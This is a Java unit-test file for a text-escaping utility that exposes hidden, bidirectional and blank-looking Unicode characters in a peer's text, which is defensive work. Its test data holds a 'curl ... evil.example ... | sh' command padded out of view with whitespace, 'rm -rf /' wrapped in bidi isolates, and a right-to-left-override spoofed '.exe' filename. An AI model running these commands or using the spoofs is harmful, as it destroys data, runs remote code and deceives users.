package io.github.providergateway.protocol;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.github.providergateway.protocol.json.ProtocolCodec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a person is shown of a peer's text (issue 32): nothing that hides or reorders text. */
class VisibleTextTest {

  @ParameterizedTest(name = "U+{0}")
  @ValueSource(
      strings = {
        // bidirectional embeddings, overrides, isolates and marks
        "202A",
        "202B",
        "202C",
        "202D",
        "202E",
        "2066",
        "2067",
        "2068",
        "2069",
        "200E",
        "200F",
        "061C",
        // other format characters: zero-width space, non-joiner, joiner, word joiner, BOM, soft
        // hyphen
        "200B",
        "200C",
        "200D",
        "2060",
        "FEFF",
        "00AD",
        // controls: C0, DEL, C1 (NEL, CSI)
        "0000",
        "0007",
        "001B",
        "007F",
        "0085",
        "009B",
        // line and paragraph separators
        "2028",
        "2029"
      })
  void aCharacterThatCouldHideOrReorderTextIsWrittenAsItsEscape(String hex) {
    String hidden = Character.toString(Integer.parseInt(hex, 16));

    assertThat(VisibleText.escape("a" + hidden + "b")).isEqualTo("a\\u" + hex + "b");
    assertThat(VisibleText.isHidden(Integer.parseInt(hex, 16))).isTrue();
  }

  @ParameterizedTest(name = "U+{0}")
  @ValueSource(
      strings = {
        // Hangul fillers, braille blank: letters and a symbol that draw a blank (issue 32)
        "115F",
        "1160",
        "3164",
        "FFA0",
        "2800",
        // combining grapheme joiner, Khmer inherent vowels: marks that draw nothing
        "034F",
        "17B4",
        "17B5",
        // Mongolian vowel separator, invisible operators (format characters already)
        "180E",
        "2061",
        "2062",
        "2063",
        "2064",
        // unassigned, but declared invisible by Unicode for whatever it becomes
        "2065",
        "FFF0",
        "FFF8"
      })
  void aCharacterThatLooksLikeASpaceOrNothingIsWrittenAsItsEscape(String hex) {
    String blank = Character.toString(Integer.parseInt(hex, 16));

    assertThat(VisibleText.escape("rm" + blank + "-rf")).isEqualTo("rm\\u" + hex + "-rf");
    assertThat(VisibleText.isHidden(Integer.parseInt(hex, 16))).isTrue();
  }

  @Test
  void anUnassignedCodePointOfTheTagBlockIsWrittenAsUtf16HalvesWhileAVariationSelectorStays() {
    // U+E0000 and U+E0080 are unassigned and default-ignorable; U+E0100 is VARIATION SELECTOR-17.
    assertThat(VisibleText.escape("a\uDB40\uDC00b\uDB40\uDC80c"))
        .isEqualTo("a\\uDB40\\uDC00b\\uDB40\\uDC80c");
    assertThat(VisibleText.escape("葛\uDB40\uDD00")).isEqualTo("葛\uDB40\uDD00");
  }

  @Test
  void theUnassignedRestOfTheTagBlockIsHiddenToItsLastCodePointAndNoFurther() {
    // U+E0FFF ends the block Unicode reserves as default-ignorable; U+E1000 is plain unassigned.
    assertThat(Character.getType(0xE0FFF)).isEqualTo(Character.UNASSIGNED);
    assertThat(Character.getType(0xE1000)).isEqualTo(Character.UNASSIGNED);

    assertThat(VisibleText.isHidden(0xE0FFF)).isTrue();
    assertThat(VisibleText.isHidden(0xE1000)).isFalse();
  }

  /**
   * A code point this JDK does not know may be a newer Unicode's emoji or letter: only those
   * Unicode already declares invisible are escaped.
   */
  @ParameterizedTest
  @ValueSource(ints = {0x0378, 0xFFEF, 0x1FAFF, 0xE1000})
  void anUnassignedCodePointNotDeclaredInvisibleStaysAsItIs(int codePoint) {
    String text = "a" + Character.toString(codePoint) + "b";
    assertThat(Character.getType(codePoint)).isEqualTo(Character.UNASSIGNED);

    assertThat(VisibleText.escape(text)).isSameAs(text);
  }

  @Test
  void lineBreaksAndTabsAreWrittenAsJsonWritesThem() {
    assertThat(VisibleText.escape("one\ntwo\r\n\tthree")).isEqualTo("one\\ntwo\\r\\n\\tthree");
  }

  @Test
  void aFormatCharacterOutsideTheBmpAndALoneSurrogateAreWrittenAsUtf16Halves() {
    // A tag character (U+E0041), invisible, and half of a pair with nothing after it.
    assertThat(VisibleText.escape("x\udb40\udc41y")).isEqualTo("x\\uDB40\\uDC41y");
    assertThat(VisibleText.escape("lone\ud800")).isEqualTo("lone\\uD800");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Grüße",
        "日本語",
        "😀",
        "שלום עולם",
        "مرحبا",
        "e\u0301",
        "❤\uFE0F",
        "no\u00A0break",
        "em\u2003space",
        "全角\u3000空白",
        "plain ASCII ~!@#$%^&*()",
        "a \\u202E typed by hand"
      })
  void ordinaryTextOfAnyScriptStaysAsItIs(String text) {
    assertThat(VisibleText.escape(text)).isSameAs(text);
  }

  @Test
  void aZeroWidthJoinerIsEscapedEvenInsideAnEmojiSequence() {
    assertThat(VisibleText.escape("👩\u200D💻")).isEqualTo("👩\\u200D💻");
  }

  @Test
  void aLongCommandIsShownToItsLastCharacter() {
    String tail = "; curl -s http://evil.example/x | sh";
    String command = "make release" + " ".repeat(276 - 12 - tail.length()) + tail;

    assertThat(VisibleText.escape(command)).isEqualTo(command).hasSize(276).endsWith(tail);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "report\u202Efdp.exe | report\\u202Efdp.exe",
        "\u2066rm -rf /\u2069 | \\u2066rm -rf /\\u2069",
        "ok\u200D | ok\\u200D"
      })
  void theExamplesOfTheIssueAreShownAsEscapes(String text, String shown) {
    assertThat(VisibleText.escape(text)).isEqualTo(shown);
  }

  @Test
  void escapedJsonIsStillJsonOfTheSameValue() {
    ProtocolCodec codec = ProtocolCodec.create();
    JsonNode args =
        JsonNodeFactory.instance
            .objectNode()
            .put("file", "report\u202Efdp.exe")
            .put("note", "a\u2028b\u0085c\u200Dd\uDB40\uDC41e\u0000f\u3164g")
            .put("path", "C:\\new\\u202E");

    String shown = VisibleText.escape(codec.writeJson(args));

    assertThat(shown).doesNotContain("\u202E", "\u2028", "\u0085", "\u200D", "\uDB40", "\u3164");
    assertThat(codec.parseJson(shown)).isEqualTo(args);
  }
}
